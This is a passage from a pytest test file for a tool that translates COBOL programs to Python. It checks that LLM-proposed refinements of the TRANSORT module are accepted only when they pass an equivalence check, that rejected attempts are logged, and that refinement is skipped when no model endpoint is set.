                      '"""1100-READ-RELEASE: read an edited transaction, release it to the sort.'
                      '\n')
    assert "outcome_1" not in clearer
    out = tmp_path / "validation"
    (tmp_path / "specs").mkdir()
    (tmp_path / "specs" / "TRANSORT.md").write_text("TRANSORT sorts the edited transactions.")
    use_server(monkeypatch, server)
    server.script(proposal(clearer))

    result = validate_transort(samples, out, "--refine")
    assert result.exit_code == 0, result.output
    assert (out / "refined" / "transort.py").read_text() == clearer
    assert (code / "transort.py").read_text() == deterministic  # the translation is untouched
    assert "TRANSORT: refinement accepted after 1 attempt(s)" in result.stdout
    info = json.loads((out / "validation.json").read_text())["programs"]["TRANSORT"]
    assert info["equivalent"] == info["scenarios"] >= 3
    assert info["refinement"] == {
        "accepted": True, "attempts": 1, "module": "refined/transort.py",
        "reasons": ["accepted: passed the static checks and the equivalence check"]}
    [request] = server.completions
    assert "TRANSORT sorts the edited transactions." in user_text(request)  # OUT/../specs
    assert "the whole module" in user_text(request)
    with sqlite3.connect(out / "llm.sqlite") as db:  # the audit log of the CLI's run
        rows = db.execute("SELECT prompt_id, outcome FROM calls").fetchall()
    assert rows == [("translate.refine", "ok")]
    assert "| TRANSORT | yes | 1 | refined/transort.py |" in (out / "validation.md").read_text()


@needs_cobc
def test_validate_refine_rejects_a_behaviour_change_and_keeps_the_translation(
        samples: tuple[Path, Path], tmp_path: Path, server: FakeOpenAI,
        monkeypatch: pytest.MonkeyPatch) -> None:
    _, code = samples
    deterministic = (code / "transort.py").read_text()
    changes = [('"TRANSORT - RECORDS RELEASED ...... "', '"TRANSORT - RECORDS READ .......... "'),
               ('"TRANSORT - RECORDS WRITTEN ....... "', '"TRANSORT - RECORDS KEPT .......... "'),
               ('"TRANSORT - DUPLICATES DROPPED .... "', '"TRANSORT - DUPLICATES ............ "')]
    server.script(*(proposal(variant(deterministic, old, new)) for old, new in changes))
    use_server(monkeypatch, server)
    out = tmp_path / "validation"
    stale = out / "refined" / "transort.py"  # an earlier run's accepted module
    stale.parent.mkdir(parents=True)
    stale.write_text("# stale\n")

    result = validate_transort(samples, out, "--refine")
    assert result.exit_code == 0, result.output
    assert len(server.completions) == 3  # the first proposal and two repairs
    assert not stale.exists()  # the deterministic module stands
    assert (code / "transort.py").read_text() == deterministic
    assert "no refinement accepted (3 attempt(s)); the deterministic module stands" in \
        result.stdout
    refinement = json.loads((out / "validation.json").read_text())[
        "programs"]["TRANSORT"]["refinement"]
    assert refinement["accepted"] is False and refinement["attempts"] == 3
    assert "module" not in refinement
    for reason, (_, new) in zip(refinement["reasons"], changes, strict=True):
        assert reason.startswith("rejected by the equivalence check")
        assert "scenario `" in reason and new.strip('"').split(" .")[0] in reason


@needs_cobc
def test_validate_refine_without_a_model_says_so_and_skips(
        samples: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    out = tmp_path / "validation"
    result = validate_transort(samples, out, "--refine")
    assert result.exit_code == 0, result.output
    assert "no OPENAI_BASE_URL: --refine skipped" in result.stderr
    assert "refinement" not in json.loads((out / "validation.json").read_text())[
        "programs"]["TRANSORT"]
    assert not (out / "refined").exists() and not (out / "llm.sqlite").exists()
